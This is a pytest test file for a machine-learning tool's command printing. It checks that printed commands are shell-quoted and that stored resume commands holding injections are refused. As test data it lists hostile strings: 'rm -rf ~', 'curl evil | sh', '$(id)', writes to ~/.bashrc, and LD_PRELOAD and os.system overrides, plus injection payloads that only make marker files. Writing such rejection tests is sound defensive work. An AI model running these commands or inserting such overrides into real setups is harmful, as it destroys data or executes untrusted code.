"""The commands litlab prints (litlab.utils.commands): made ones are quoted so that they work
as pasted into a shell, whatever the overrides hold; stored ones (a sweep plan's, a lock
file's) are printed only when they are a command litlab could have made (issue 46)."""

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from litlab.errors import UserError
from litlab.sweeps import plan
from litlab.utils import commands

# overrides a shell would split or run if they were not quoted; every payload only makes a
# marker file in the test's own folder (never anything else: this test runs a shell, and a
# broken quoting must cost a failed assertion, nothing more)
AWKWARD = [
    "+tags=[a b]",
    "note='quoted' \"twice\"",
    "x=1;touch injected1",
    "y=$HOME$(touch injected2)`touch injected3`",
    "z=a|touch injected4&&touch injected5>d<e*?",
    "u=héllo ✓ 名前",
    "n=line1\nline2",
    "e=back\\slash",
    "~callbacks.early_stopping",
    "t=",
]


def test_made_commands_reach_the_program_as_given_when_pasted_into_a_shell(tmp_path):
    """Every printed command run by a POSIX shell (sh -c, as pasted): the program gets each
    override as one word, unchanged (a `python` on PATH that records its arguments), and no
    part of any override runs (no marker file appears)."""
    fake = tmp_path / "bin" / "python"
    fake.parent.mkdir()
    fake.write_text(
        "#!/usr/bin/env python3\nimport json, sys\n"
        f"open({str(tmp_path / 'argv.json')!r}, 'w').write(json.dumps(sys.argv[1:]))\n"
    )
    fake.chmod(0o755)
    printed = commands.command("train", AWKWARD, multirun=True)
    assert "\n" not in printed.replace("line1\nline2", "")  # one line but for the value's own
    home = tmp_path / "home"  # `~` and $HOME of the shell: the test's own folder
    home.mkdir()
    path = f"{fake.parent}{os.pathsep}/usr/bin{os.pathsep}/bin"
    subprocess.run(["sh", "-c", printed], check=True, env={"PATH": path, "HOME": str(home)},
                   cwd=tmp_path, timeout=30)  # fmt: skip
    assert json.loads((tmp_path / "argv.json").read_text()) == ["src/train.py", "-m", *AWKWARD]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["argv.json", "bin", "home"]


def test_a_made_command_is_one_litlab_prints_back():
    text = commands.command("train", [o for o in AWKWARD if "\n" not in o], multirun=True)
    assert commands.printable(text, entry="train", multirun=True) == text


@pytest.mark.parametrize(
    "text, why",
    [
        ("rm -rf ~ ; python src/train.py -m seed=7", "holds shell syntax"),
        ("python src/train.py -m seed=7 ; rm -rf ~", "holds shell syntax"),
        ("python src/train.py -m seed=7 && curl evil | sh", "holds shell syntax"),
        ("python src/train.py -m seed=$(id)", "holds shell syntax"),
        ("python src/train.py -m seed=`id`", "holds shell syntax"),
        ("python src/train.py -m seed=7 > ~/.bashrc", "holds shell syntax"),
        ("python src/train.py -m 'seed=7", "is not shell words"),
        ("python src/train.py -m seed=7\nrm -rf ~", "control character '\\n'"),
        ("python src/train.py -m seed=7\r", "control character '\\r'"),
        ("python src/train.py -m seed=\x1b[2J7", "control character '\\x1b'"),
        ("python src/train.py -m seed=\u202e7", "control character '\\u202e'"),
        ("python3 src/train.py -m seed=7", "does not start with python src/<train>.py"),
        ("python src/eval.py -m seed=7", "does not start with python src/<train>.py"),
        ("python src/../evil.py -m seed=7", "does not start with python src/<train>.py"),
        ("python src/train.py seed=7", "its command lacks -m"),
        ("python src/train.py -m -m seed=7", "its command has -m twice"),
        ("python src/train.py -m --config-dir=/tmp/x", "'--config-dir=/tmp/x', not a Hydra"),
        ("python src/train.py -m -cd /tmp/x", "'-cd', not a Hydra override"),
        ("python src/train.py -m rm", "'rm', not a Hydra override"),
        ("python src/train.py -m +callbacks.x._target_=os.system", "names code to run"),
        ("python src/train.py -m '+callbacks.x={_target_:os.system}'", "names code to run"),
        ("python src/train.py -m hydra.job.env_set.LD_PRELOAD=/x.so", "names code to run"),
        ("python src/train.py -m 'hydra.searchpath=[file:///tmp]'", "names code to run"),
        ("python src/train.py -m 'hydra.launcher.setup=[curl x]'", "names code to run"),
        ("python src/train.py -m " + "x=1 " * 30_000, "over 100000 characters"),
        ("", "holds no command"),
        (["python", "src/train.py"], "holds no command"),
    ],
)
def test_a_stored_command_that_litlab_would_not_write_is_never_printed(text, why):
    with pytest.raises(commands.Untrusted, match=re.escape(why)):
        commands.printable(text, entry="train", multirun=True)


def test_a_crafted_resume_command_is_named_not_echoed_and_a_moved_sweeps_is_its_own(tmp_path):
    """Issue 46: a plan whose resume command is `rm -rf ~ ; python ...` was echoed as advice.
    A sound one is printed with the sweep dir where the sweep is now (it was moved)."""
    sweep = tmp_path / "moved"
    sweep.mkdir()
    jobs, now = [["seed=1"], ["seed=2"]], [["seed=1"], ["seed=3"]]
    for stored in ("rm -rf ~ ; python src/train.py -m seed=7", "python src/train.py -m seed=7"):
        plan.write_plan(sweep, jobs, stored)
        with pytest.raises(UserError) as refused:
            plan.check_resume(sweep, now, [])
        line = str(refused.value)
        assert line.startswith(f"hydra.sweep.dir={sweep} holds a sweep with other settings")
        assert "rm -rf" not in line and "\n" not in line
    assert f"its own command (python src/train.py -m seed=7 hydra.sweep.dir={sweep})" in line
    plan.write_plan(sweep, jobs, "python src/train.py -m seed=1,2 'hydra.sweep.dir=/old place'")
    with pytest.raises(UserError, match=re.escape(f"seed=1,2 hydra.sweep.dir={sweep})")):
        plan.check_resume(sweep, now, [])


def test_a_resume_hint_with_a_path_is_one_shell_word(tmp_path):
    """`resume with ckpt_path=<run>` of a run dir whose path holds a space and a `$`."""
    from litlab.checkpointing.atomic_io import check_links

    run = tmp_path / "my runs $x" / "r"
    run.mkdir(parents=True)
    (run / "checkpoints").symlink_to(tmp_path)
    with pytest.raises(UserError) as refused:
        check_links(Path(run))
    assert str(refused.value).endswith(f"'ckpt_path={run / 'checkpoints' / 'last.ckpt'}'")
